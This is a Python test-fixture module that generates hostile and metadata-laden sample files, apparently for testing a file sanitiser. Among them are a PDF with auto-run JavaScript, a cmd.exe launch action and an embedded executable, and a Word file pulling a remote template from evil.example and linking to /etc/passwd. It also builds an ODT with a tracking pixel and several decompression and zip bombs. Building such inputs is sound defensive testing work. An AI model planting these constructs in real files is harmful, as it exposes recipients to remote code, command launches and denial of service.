"""Real files, as people and those who mean harm send them."""

import io
import struct
import wave
import zipfile
import zlib

import av
import numpy as np
import pikepdf
from PIL import Image, ImageCms

PLACE = b"GPSLatitude-Cambridge-5212"
DEVICE = "Phone of Noreen"


def encoded(picture, form, **options):
    out = io.BytesIO()
    picture.save(out, form, **options)
    return out.getvalue()


def noise(width=800, height=600):
    """Something like a photograph: many colours."""
    grains = np.random.default_rng(7).integers(0, 255, (height, width, 3), dtype=np.uint8)
    return Image.fromarray(grains)


def photo(form="JPEG", *, turned=False, **options):
    """A photograph that says where, with what and by whom it was taken."""
    exif = Image.Exif()
    exif[0x0110] = DEVICE
    exif[0x010E] = PLACE.decode()
    if turned:
        exif[0x0112] = 6
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (52.0, 12.0, 0.0), "E", (0.0, 8.0, 0.0)
    return encoded(noise(), form, exif=exif, **options)


def wide_colours():
    """A JPEG whose numbers mean other colours than on most screens: swapped, so that a difference can be seen."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB"))
    return encoded(noise(), "JPEG", icc_profile=profile.tobytes())


def recording(seconds=2, form="wav", codec="pcm_s16le", **tags):
    """A tone."""
    out = io.BytesIO()
    with av.open(out, "w", format=form) as written:
        written.metadata.update(tags)
        stream = written.add_stream(codec, rate=48000, layout="mono")
        tone = (np.sin(np.arange(48000 * seconds) * 0.05) * 9000).astype(np.int16).reshape(1, -1)
        frame = av.AudioFrame.from_ndarray(tone, format="s16", layout="mono")
        frame.rate = 48000
        resampler = av.AudioResampler(format=stream.codec_context.format, layout="mono", rate=48000, frame_size=960)
        for piece in [*resampler.resample(frame), *resampler.resample(None)]:
            written.mux(stream.encode(piece))
        written.mux(stream.encode(None))
    return out.getvalue()


def silence(seconds):
    """A long recording, small to make."""
    out = io.BytesIO()
    with wave.open(out, "wb") as written:
        written.setnchannels(1)
        written.setsampwidth(1)
        written.setframerate(4000)
        written.writeframes(b"\x80" * 4000 * seconds)
    return out.getvalue()


def film():
    out = io.BytesIO()
    with av.open(out, "w", format="mp4") as written:
        stream = written.add_stream("mpeg4", rate=5, width=64, height=64, pix_fmt="yuv420p")
        for _each in range(5):
            written.mux(stream.encode(av.VideoFrame(64, 64, "yuv420p")))
        written.mux(stream.encode(None))
    return out.getvalue()


def pdf(**options):
    """A PDF that acts when it is opened, holds a file and a photograph, and says who made it."""
    made = pikepdf.new()
    made.add_blank_page()
    made.docinfo["/Author"] = "Noreen Author"
    with made.open_metadata() as facts:
        facts["dc:creator"] = ["Noreen Author"]
    script = pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS="app.alert('hello')")
    made.Root.OpenAction = made.make_indirect(script)
    made.attachments["inner.exe"] = b"MZ inner program"
    picture = made.make_stream(photo())
    picture["/Type"], picture["/Subtype"], picture["/Filter"] = (
        pikepdf.Name.XObject,
        pikepdf.Name.Image,
        pikepdf.Name.DCTDecode,
    )
    picture["/Width"], picture["/Height"], picture["/BitsPerComponent"] = 800, 600, 8
    picture["/ColorSpace"] = pikepdf.Name.DeviceRGB
    page = made.pages[0]
    page.obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/leaflet"),
    )
    launch = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
    )
    remark = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T="Noreen Author", Contents="A remark"
    )
    page.obj["/Annots"] = pikepdf.Array([link, launch, remark])
    page.obj["/AA"] = pikepdf.Dictionary(O=script)
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/><Override PartName="/docProps/core.xml" ContentType="x/y"/></Types>'
)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def zipped(parts, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **options) as folder:
        for name, content in parts.items():
            folder.writestr(name, content)
    return out.getvalue()


def word_parts():
    """The parts of a Word file with an author, a comment, a photograph and a template that is fetched from afar."""
    return {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="{OFFICE}/officeDocument" '
        f'Target="word/document.xml"/><Relationship Id="b" Type="{OFFICE}/core" Target="docProps/core.xml"/>'
        "</Relationships>",
        "docProps/core.xml": "<x>Noreen Author</x>",
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p w:rsidR="00AB12"><w:ins w:author='
        '"Noreen Author" w:date="2026-01-01T00:00:00Z"><w:r><w:t>The lift was broken</w:t></w:r></w:ins></w:p>'
        "</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">'
        f'<Relationship Id="t" Type="{OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/>'
        f'<Relationship Id="h" Type="{OFFICE}/hyperlink" Target="https://example.org/" TargetMode="External"/>'
        f'<Relationship Id="j" Type="{OFFICE}/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="p" Type="{OFFICE}/image" Target="media/image1.jpg"/></Relationships>',
        "word/media/image1.jpg": photo(),
    }


def docx(**parts):
    return zipped({**word_parts(), **parts})


def odt():
    office = "urn:oasis:names:tc:opendocument:xmlns"
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{office}:manifest:1.0"><m:file-entry m:full-path="/"/>'
            '<m:file-entry m:full-path="content.xml"/><m:file-entry m:full-path="meta.xml"/></m:manifest>',
            "meta.xml": "<x>Noreen Author</x>",
            "content.xml": f'<o:document-content xmlns:o="{office}:office:1.0" xmlns:t="{office}:text:1.0" '
            'xmlns:x="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            "<o:scripts><o:script/></o:scripts><o:body><dc:creator>Noreen Author</dc:creator>"
            '<t:a x:href="https://example.org/">leaflet</t:a><t:p x:href="http://evil.example/pixel.png">'
            "The lift was broken</t:p></o:body></o:document-content>",
        }
    )


def huge_png(side=30_000):
    """A picture of 900 million points in a few kilobytes."""
    row = zlib.compressobj(9)
    rows = b"".join(row.compress(b"\0" * (side // 8 + 1)) for _each in range(side)) + row.flush()

    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def lying_png():
    """It says that it is small, and goes on."""
    return huge_png(20_000).replace(struct.pack(">II", 20_000, 20_000), struct.pack(">II", 100, 100), 1)


def zip_bomb():
    """A Word file whose text is 300 MB of one letter."""
    return docx(**{"word/document.xml": b"<x>" + b"a" * 300_000_000})


def many_parts():
    return zipped({**word_parts(), **{f"word/p{number}.xml": "<x/>" for number in range(3000)}})
